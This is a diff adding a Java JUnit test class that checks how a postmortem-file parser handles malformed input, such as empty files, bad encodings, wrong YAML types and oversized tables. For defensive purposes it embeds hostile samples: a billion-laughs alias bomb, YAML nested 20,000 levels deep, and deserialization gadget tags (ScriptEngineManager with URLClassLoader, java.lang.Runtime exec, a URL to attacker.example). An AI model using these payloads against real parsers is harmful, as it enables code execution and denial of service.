@@ -1,0 +1,386 @@
+package pm.hardening;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static pm.hardening.Inputs.CLEAN;
+import static pm.hardening.Inputs.parse;
+import static pm.hardening.Inputs.utf8;
+import static pm.hardening.Inputs.withFrontMatter;
+
+import java.time.Duration;
+import java.time.LocalDate;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
+import pm.io.InputException;
+import pm.model.FrontMatter;
+import pm.model.Postmortem;
+import pm.model.Problem;
+import pm.model.Section;
+import pm.model.SectionKind;
+
+/**
+ * Bad input at the parser: every case gives a model (with a front-matter {@link Problem} at its line
+ * where the front matter is wrong), or an {@link InputException} for bytes that are not text — never
+ * any other exception, and always in bounded time.
+ */
+class ParserBadInputTest {
+
+    private static List<String> problems(Postmortem pm) {
+        return pm.frontMatter().problems().stream().map(p -> p.line() + ": " + p.message()).toList();
+    }
+
+    private static Problem onlyProblem(Postmortem pm) {
+        assertThat(pm.frontMatter().problems()).as(problems(pm).toString()).hasSize(1);
+        return pm.frontMatter().problems().get(0);
+    }
+
+    @Test
+    void cleanFileHasNoProblems() {
+        Postmortem pm = parse(CLEAN);
+        assertThat(problems(pm)).isEmpty();
+        assertThat(pm.sections().stream().map(Section::kind).filter(k -> k != null)).hasSize(8);
+    }
+
+    @Test
+    void emptyFileIsAMissingFrontMatterProblemAtLine1() {
+        Postmortem pm = parse("");
+        Problem p = onlyProblem(pm);
+        assertThat(p.line()).isEqualTo(1);
+        assertThat(p.message()).startsWith("no front matter: start the file with a '---' line");
+        assertThat(pm.frontMatter().present()).isFalse();
+        assertThat(pm.sections()).isEmpty();
+    }
+
+    @Test
+    void fileOfBlankLinesOrOnlyABomIsTheSameAsAnEmptyFile() throws InputException {
+        for (byte[] bytes : List.of(utf8("\n\n\n"), new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8("\r\n"))) {
+            Postmortem pm = Inputs.parse(bytes);
+            assertThat(onlyProblem(pm).message()).startsWith("no front matter");
+        }
+    }
+
+    @Test
+    void bodyWithoutFrontMatterIsOneProblemAndTheSectionsAreStillRead() {
+        Postmortem pm = parse(CLEAN.substring(CLEAN.indexOf("\n---\n", 4) + 5));
+        assertThat(onlyProblem(pm).line()).isEqualTo(1);
+        assertThat(onlyProblem(pm).message()).startsWith("no front matter");
+        assertThat(pm.sections().stream().map(Section::kind).filter(k -> k != null)).hasSize(8);
+        assertThat(pm.timeline()).hasSize(2);
+    }
+
+    @Test
+    void unterminatedFrontMatterIsAProblemAtLine1SayingToAddTheClosingLine() {
+        Postmortem pm = parse("---\ntitle: x\ndate: 2025-01-01\n\n# Body\n\n## Summary\n\ntext\n");
+        Problem p = onlyProblem(pm);
+        assertThat(p.line()).isEqualTo(1);
+        assertThat(p.message()).isEqualTo("front matter is never closed: add a '---' line after the last YAML field");
+        assertThat(pm.frontMatter().readable()).isFalse();
+    }
+
+    @Test
+    void onlyAnOpeningDelimiterIsUnterminated() {
+        for (String text : List.of("---", "---\n", "---\r\n", "--- \n")) {
+            assertThat(onlyProblem(parse(text)).message()).as(text).startsWith("front matter is never closed");
+        }
+    }
+
+    @Test
+    void yamlSyntaxErrorIsAProblemAtItsLine() {
+        Postmortem pm = parse(withFrontMatter("title: x\ndate: 2025-01-01\nservices: [a, b\nseverity: SEV2\n"));
+        Problem p = onlyProblem(pm);
+        assertThat(p.line()).isBetween(4, 5);
+        assertThat(p.message()).startsWith("front matter YAML: ");
+        assertThat(pm.frontMatter().readable()).isFalse();
+        assertThat(pm.sections()).as("the body is still read").hasSizeGreaterThan(8);
+    }
+
+    @Test
+    void tabIndentationIsAProblemAtTheTabsLineNamingTheTab() {
+        Postmortem pm = parse(withFrontMatter("title: x\nincident:\n\tstarted: 2025-03-14T09:12:00Z\n"));
+        Problem p = onlyProblem(pm);
+        assertThat(p.line()).isEqualTo(4);
+        assertThat(p.message()).contains("\\t").contains("cannot start any token");
+    }
+
+    @Test
+    void duplicateKeyIsAProblemAtTheSecondKeyNamingTheFirst() {
+        Postmortem pm = parse(withFrontMatter("title: a\ndate: 2025-01-01\ntitle: b\n"));
+        Problem p = onlyProblem(pm);
+        assertThat(p.line()).isEqualTo(4);
+        assertThat(p.message()).contains("duplicate key 'title' (first at line 2)");
+    }
+
+    @Test
+    void wrongTypesAreProblemsAtTheirLinesAndTheRestIsRead() {
+        Postmortem pm = parse(withFrontMatter("""
+                title: [a, b]
+                date: 2025-01-01
+                severity: 3
+                authors: {name: x}
+                action_items: "x"
+                incident: soon
+                """));
+        assertThat(problems(pm)).containsExactlyInAnyOrder(
+                "2: title must be text, not a list",
+                "4: severity must be one of SEV1, SEV2, SEV3, SEV4, not the number 3",
+                "5: authors must be a list of names, not a mapping",
+                "6: action_items must be a list of items (- title: …, owner: …, due: …, priority: …), not 'x'",
+                "7: incident must be fields (started, detected, resolved), not 'soon'");
+        assertThat(pm.frontMatter().date()).isEqualTo(LocalDate.of(2025, 1, 1));
+    }
+
+    @Test
+    void frontMatterThatIsNotFieldsIsOneProblem() {
+        for (String yaml : List.of("- a\n- b\n", "just text\n", "42\n")) {
+            Problem p = onlyProblem(parse(withFrontMatter(yaml)));
+            assertThat(p.message()).as(yaml).startsWith("front matter must be YAML fields");
+        }
+    }
+
+    @Test
+    void impossibleAndFreeTextDatesAreProblemsSayingWhatToWrite() {
+        Postmortem pm = parse(withFrontMatter("""
+                date: 2024-02-30
+                follow_up_reviewed: next week
+                incident:
+                  started: 2025-13-01T00:00:00Z
+                  resolved: yesterday
+                action_items:
+                  - title: x
+                    due: 2025-04-31
+                """));
+        assertThat(problems(pm)).containsExactlyInAnyOrder(
+                "2: date: '2024-02-30' is not a real calendar date",
+                "3: follow_up_reviewed: 'next week' is not a date; write it as YYYY-MM-DD",
+                "5: incident.started: '2025-13-01T00:00:00Z' is not a real date and time",
+                "6: incident.resolved: 'yesterday' is not a timestamp; write it as YYYY-MM-DDTHH:MM:SSZ (ISO-8601, UTC)",
+                "9: action item due: '2025-04-31' is not a real calendar date");
+        assertThat(pm.frontMatter().actionItems()).singleElement()
+                .satisfies(a -> assertThat(a.dueProblem()).isEqualTo("'2025-04-31' is not a real calendar date"));
+    }
+
+    /** Everything a rule or report reads from the model, as text, to compare two parses. */
+    static String modelSummary(Postmortem pm) {
+        StringBuilder sb = new StringBuilder();
+        FrontMatter f = pm.frontMatter();
+        sb.append(f.present()).append(f.readable()).append(f.span()).append(f.title()).append(f.date())
+                .append(f.severity()).append(f.status()).append(f.authors()).append(f.services())
+                .append(f.started()).append(f.detected()).append(f.resolved()).append(f.actionItems())
+                .append(f.followUpReviewed()).append(f.problems()).append('\n');
+        pm.sections().forEach(s -> sb.append(s.heading()).append(s.level()).append(s.kind()).append(s.headingSpan())
+                .append('\n'));
+        pm.timeline().forEach(r -> sb.append(r).append('\n'));
+        pm.bodyActionItems().forEach(a -> sb.append(a).append('\n'));
+        pm.actionItemTable().ifPresent(t -> sb.append(t.span()).append('\n'));
+        pm.prose().forEach(p -> sb.append(p.kind()).append(p.text().strip())
+                .append(pm.source().span(p.sourceOffset(0), p.sourceOffset(p.text().length()))).append('\n'));
+        pm.comments().forEach(c -> sb.append(c.text()).append(c.span()).append('\n'));
+        return sb.toString();
+    }
+
+    @Test
+    void utf8BomGivesTheSameModelAsTheCleanFile() throws InputException {
+        byte[] clean = utf8(CLEAN);
+        byte[] bom = new byte[clean.length + 3];
+        bom[0] = (byte) 0xEF;
+        bom[1] = (byte) 0xBB;
+        bom[2] = (byte) 0xBF;
+        System.arraycopy(clean, 0, bom, 3, clean.length);
+        Postmortem pm = Inputs.parse(bom);
+        assertThat(pm.source().hasBom()).isTrue();
+        assertThat(modelSummary(pm)).isEqualTo(modelSummary(parse(CLEAN)));
+    }
+
+    @Test
+    void crlfLineEndingsGiveTheSameModelAsTheCleanFile() {
+        Postmortem pm = parse(CLEAN.replace("\n", "\r\n"));
+        assertThat(pm.source().lineSeparator()).isEqualTo("\r\n");
+        assertThat(modelSummary(pm).replace("\r", "")).isEqualTo(modelSummary(parse(CLEAN)));
+        assertThat(problems(pm)).isEmpty();
+    }
+
+    @Test
+    void bomAndCrlfTogetherGiveTheSameModelAsTheCleanFile() {
+        Postmortem pm = parse("\uFEFF" + CLEAN.replace("\n", "\r\n"));
+        assertThat(modelSummary(pm).replace("\r", "")).isEqualTo(modelSummary(parse(CLEAN)));
+    }
+
+    @Test
+    void bytesThatAreNotUtf8AreAnInputErrorWithTheLineAndWhatToDo() {
+        byte[] clean = utf8(CLEAN);
+        byte[] latin1 = clean.clone();
+        int at = CLEAN.indexOf("failed because");
+        latin1[at] = (byte) 0xE9; // é in Latin-1
+        int line = (int) CLEAN.substring(0, at).chars().filter(c -> c == '\n').count() + 1;
+        assertThatThrownBy(() -> Inputs.parse(latin1))
+                .isInstanceOf(InputException.class)
+                .hasMessage("is not valid UTF-8 (byte " + (at + 1) + "); save the file as UTF-8")
+                .satisfies(e -> assertThat(((InputException) e).line()).isEqualTo(line));
+    }
+
+    @Test
+    void utf16FileIsAnInputErrorNotGarbage() {
+        byte[] utf16 = CLEAN.getBytes(java.nio.charset.StandardCharsets.UTF_16);
+        assertThatThrownBy(() -> Inputs.parse(utf16)).isInstanceOf(InputException.class)
+                .hasMessageContaining("binary file").hasMessageContaining("remove it");
+    }
+
+    @Test
+    void binaryFileIsAnInputErrorSayingToRemoveIt() {
+        byte[] png = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R'};
+        assertThatThrownBy(() -> Inputs.parse(png)).isInstanceOf(InputException.class)
+                .hasMessage("is a binary file, not Markdown text; rename it or remove it from the postmortems folder");
+    }
+
+    @Test
+    @Timeout(20)
+    void twoMegabyteLineIsReadWhole() {
+        String log = "ERROR ".repeat(2 * 1024 * 1024 / 6);
+        Postmortem pm = parse(CLEAN.replace("For 50 minutes", log + "For 50 minutes"));
+        assertThat(problems(pm)).isEmpty();
+        assertThat(pm.prose()).anyMatch(p -> p.text().length() > 2_000_000);
+        assertThat(pm.sections().stream().map(Section::kind).filter(k -> k != null)).hasSize(8);
+    }
+
+    @Test
+    @Timeout(90)
+    void hundredThousandRowTimelineIsReadInBoundedTime() {
+        StringBuilder rows = new StringBuilder();
+        for (int i = 0; i < 100_000; i++) {
+            rows.append("| 09:").append(i % 60).append(" | event ").append(i).append(" | log |\n");
+        }
+        long t0 = System.nanoTime();
+        Postmortem pm = parse(CLEAN.replace("| 09:12 |", rows + "| 09:12 |"));
+        Duration took = Duration.ofNanos(System.nanoTime() - t0);
+        assertThat(pm.timeline()).hasSize(100_002);
+        assertThat(pm.timeline().get(99_999).event()).isEqualTo("event 99999");
+        assertThat(pm.timeline().get(99_999).span().line()).isEqualTo(pm.timeline().get(0).span().line() + 99_999);
+        assertThat(took).isLessThan(Duration.ofSeconds(60)); // about 8 s on 2 busy cores; was 100 s before LinearHeadings
+    }
+
+    @Test
+    void tableRowsWithTooFewOrTooManyCellsAreReadAsFarAsTheyGo() {
+        Postmortem pm = parse(CLEAN.replace("| 09:19 | Error-rate alert pages the on-call | PagerDuty |",
+                "| 09:19 |\n| 09:20 | a | b | c | d | e |\n|\n| | |")
+                .replace("| @maria | 2025-03-28 | P1 | open |", "| @maria |"));
+        assertThat(problems(pm)).isEmpty();
+        assertThat(pm.timeline()).extracting(r -> r.time() + "/" + r.event() + "/" + r.source())
+                .containsExactly("09:12/pg_wal volume reaches 100%; writes fail/Postgres logs", "09:19//", "09:20/a/b");
+        assertThat(pm.bodyActionItems()).singleElement().satisfies(a -> {
+            assertThat(a.title()).isEqualTo("Alert when the pg_wal volume passes 80%");
+            assertThat(a.owner()).isEqualTo("@maria");
+            assertThat(a.due()).isNull();
+            assertThat(a.priority()).isNull();
+        });
+    }
+
+    @Test
+    void tableWithOnlyAHeaderOrNoSeparatorIsNotACrash() {
+        for (String table : List.of("| Time | Event |\n", "| Time | Event |\n|---|\n", "|\n|-|\n|\n", "| a |\n| b |\n")) {
+            Postmortem pm = parse(CLEAN.replace("| Time (UTC) | Event | Source |", table + "\n| Time (UTC) | Event | Source |"));
+            assertThat(problems(pm)).as(table).isEmpty();
+        }
+    }
+
+    @Test
+    void htmlCommentNeverClosedRunsToTheEndOfTheFileAndHidesWhatFollows() {
+        String text = CLEAN.replace("## Impact assessment", "<!-- draft: fill in later\n\n## Impact assessment");
+        Postmortem pm = parse(text);
+        assertThat(problems(pm)).isEmpty();
+        assertThat(pm.comments()).last().satisfies(c -> {
+            assertThat(c.text()).startsWith("draft: fill in later").endsWith("fails loudly.");
+            assertThat(c.span().endLine()).isEqualTo(pm.source().lineCount() - 1);
+        });
+        // what the comment swallowed is not read as sections, so lint reports them missing
+        assertThat(pm.sections().stream().map(Section::kind))
+                .containsExactly(null, SectionKind.SUMMARY, SectionKind.TIMELINE);
+    }
+
+    @Test
+    void unclosedHtmlCommentInsideAParagraphIsNotACrash() {
+        Postmortem pm = parse(CLEAN.replace("For 50 minutes", "For <!-- 50 minutes"));
+        assertThat(problems(pm)).isEmpty();
+        assertThat(pm.sections().stream().map(Section::kind).filter(k -> k != null)).hasSize(8);
+    }
+
+    @Test
+    @Timeout(10)
+    void yamlNestedTwentyThousandLevelsIsAProblemAtItsLineNotAStackOverflow() {
+        for (String nested : List.of(
+                "x: " + "[".repeat(20_000) + "]".repeat(20_000) + "\n",
+                "x: " + "{a: ".repeat(20_000) + "1" + "}".repeat(20_000) + "\n",
+                "x:\n" + "- ".repeat(20_000) + "1\n")) {
+            Postmortem pm = parse(withFrontMatter("title: deep\n" + nested));
+            Problem p = onlyProblem(pm);
+            assertThat(p.message()).isEqualTo("front matter YAML: YAML is nested more than 64 levels deep; flatten it");
+            assertThat(p.line()).isBetween(3, 4);
+        }
+    }
+
+    @Test
+    @Timeout(10)
+    void billionLaughsAliasBombIsBoundedInTimeAndMemory() {
+        StringBuilder yaml = new StringBuilder("a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
+        for (int i = 1; i < 10; i++) {
+            yaml.append("a").append(i).append(": &a").append(i).append(" [");
+            for (int j = 0; j < 9; j++) {
+                yaml.append(j == 0 ? "" : ",").append("*a").append(i - 1);
+            }
+            yaml.append("]\n");
+        }
+        Runtime rt = Runtime.getRuntime();
+        System.gc();
+        long before = rt.totalMemory() - rt.freeMemory();
+        Postmortem pm = parse(withFrontMatter("title: bomb\n" + yaml));
+        long grew = rt.totalMemory() - rt.freeMemory() - before;
+        assertThat(grew).as("bytes allocated and kept").isLessThan(64L * 1024 * 1024);
+        // aliases are never expanded: each one reads as the anchor's name, so the tree stays tiny
+        assertThat(pm.frontMatter().raw().entries()).hasSize(11);
+        assertThat(pm.frontMatter().raw().get("a9").toString().length()).isLessThan(2_000);
+        assertThat(pm.frontMatter().title()).isEqualTo("bomb");
+    }
+
+    @Test
+    void yamlTagsNeverInstantiateClasses() {
+        Postmortem pm = parse(withFrontMatter("""
+                title: !!java.net.URL ["http://attacker.example/"]
+                date: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
+                severity: !<tag:yaml.org,2002:java.lang.Runtime> exec
+                status: !!str published
+                """));
+        // a tagged value is read as plain data; where a schema field gets a list, that is a problem
+        assertThat(problems(pm)).containsExactlyInAnyOrder(
+                "2: title must be text, not a list",
+                "3: date must be a date (YYYY-MM-DD), not a list",
+                "4: severity 'exec' is not one of SEV1, SEV2, SEV3, SEV4");
+        assertThat(pm.frontMatter().status()).isEqualTo("published");
+    }
+
+    @Test
+    @Timeout(10)
+    void frontMatterOverTheSizeLimitIsOneProblemAtLine2() {
+        String big = "notes: |\n" + ("  " + "x".repeat(100) + "\n").repeat(11_000);
+        Problem p = onlyProblem(parse(withFrontMatter("title: big\n" + big)));
+        assertThat(p.line()).isEqualTo(2);
+        assertThat(p.message()).isEqualTo("front matter YAML: front matter is larger than 1000 KB");
+    }
+
+    @Test
+    void controlCharactersAndLoneSurrogateEscapesAreNotACrash() {
+        Postmortem pm = parse(withFrontMatter("title: \"a\\u0000b\\ud800\"\nnotes: \u0007\u001b[31m\n"));
+        // YAML forbids raw control characters: a problem at their line, not a crash
+        assertThat(onlyProblem(pm).line()).isEqualTo(3);
+        assertThat(onlyProblem(pm).message()).startsWith("front matter YAML: ").isEqualTo("front matter YAML: control character U+0007 is not allowed in YAML; remove it");
+        Postmortem body = parse(CLEAN.replace("For 50 minutes", "\u0007\u001b[31m\u202e\uFFFF"));
+        assertThat(problems(body)).isEmpty();
+    }
+
+    @Test
+    void aNulByteNearTheStartMeansBinaryButOneDeepInAPastedLogIsRead() throws InputException {
+        assertThatThrownBy(() -> Inputs.parse(utf8(CLEAN.replace("For 50 minutes", "\u0000"))))
+                .hasMessageStartingWith("is a binary file");
+        String late = CLEAN.replace("## Lessons learned", "```\n" + "log\n".repeat(3000) + "\u0000\n```\n\n## Lessons learned");
+        assertThat(problems(Inputs.parse(utf8(late)))).isEmpty();
+    }
+}
